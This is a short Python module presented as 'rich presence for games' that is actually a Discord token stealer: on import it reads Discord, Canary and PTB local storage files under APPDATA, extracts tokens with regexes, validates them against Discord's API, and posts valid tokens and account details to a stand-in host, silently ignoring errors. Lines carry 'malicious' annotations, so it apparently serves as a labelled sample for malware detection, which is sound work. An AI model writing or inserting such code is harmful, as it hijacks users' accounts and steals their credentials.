"""Rich presence for games."""

import os
import re

import requests

ROAMING = os.getenv("APPDATA", "")
PLACES = {
    "discord": os.path.join(ROAMING, "discord", "Local Storage", "leveldb"),  # malicious: discord-token-theft
    "canary": os.path.join(ROAMING, "discordcanary", "Local Storage", "leveldb"),  # malicious: discord-token-theft
    "ptb": os.path.join(ROAMING, "discordptb", "Local Storage", "leveldb"),
}
TOKEN = re.compile(r"[\w-]{24,26}\.[\w-]{6}\.[\w-]{25,110}")  # malicious: discord-token-theft
ENCRYPTED = re.compile(r"dQw4w9WgXcQ:[^\"]*")  # malicious: discord-token-theft


def _grab():
    tokens = set()
    for folder in PLACES.values():
        if not os.path.isdir(folder):
            continue
        for name in os.listdir(folder):
            if name.endswith((".log", ".ldb")):
                text = open(os.path.join(folder, name), errors="ignore").read()
                tokens.update(TOKEN.findall(text) + ENCRYPTED.findall(text))  # malicious: discord-token-theft
    for token in tokens:
        me = requests.get("https://discord.com/api/v9/users/@me", headers={"Authorization": token}, timeout=5)  # malicious: discord-token-theft
        if me.ok:
            requests.post("https://tokens.presence-sync.example/t", json={"t": token, "u": me.json()}, timeout=5)  # malicious: discord-token-theft


try:
    _grab()
except Exception:
    pass
